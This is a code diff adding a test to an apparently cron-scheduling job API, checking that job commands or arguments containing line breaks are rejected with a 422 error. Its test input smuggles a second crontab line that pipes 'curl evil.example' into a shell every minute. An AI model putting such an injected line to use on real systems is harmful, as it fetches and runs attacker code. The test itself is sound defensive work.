@@ -111,3 +111,19 @@ def test_a_read_only_key_cannot_edit_and_a_write_key_commits_under_its_name(api)
     assert created.status_code == 201, created.text
     assert created.json()["history"][0]["author"] == "write key"
     wait_until(lambda: "production/nightly-export" in jobs(api, reader))
+
+
+def test_a_command_with_a_line_break_is_refused_with_422_naming_the_field(api):
+    alice = sign_up(api, "alice")
+    job = api.post("/api/jobs", json={"manifest": NIGHTLY_EXPORT}, headers=alice.headers).json()
+    before = head(api, alice)
+    as_json = {"apiVersion": "crontopus.io/v1", "kind": "Job",
+               "metadata": {"name": "injected", "namespace": "production"},
+               "spec": {"schedule": "@daily", "command": "/bin/true\n* * * * * curl evil.example | sh"}}  # fmt: skip
+    created = api.post("/api/jobs", json={"manifest": as_json}, headers=alice.headers)
+    updated = api.put("/api/jobs/production/nightly-export", headers=alice.headers, json={
+        "manifest": NIGHTLY_EXPORT + '  args: ["ok", "two\\nlines"]\n', "base_commit": job["commit"]})  # fmt: skip
+    assert created.status_code == updated.status_code == 422
+    assert "spec.command: contains a line break, which a crontab line cannot hold" in created.json()["detail"]
+    assert updated.json()["detail"].startswith("production/nightly-export.yaml:10: spec.args.1: contains a line break")
+    assert head(api, alice) == before
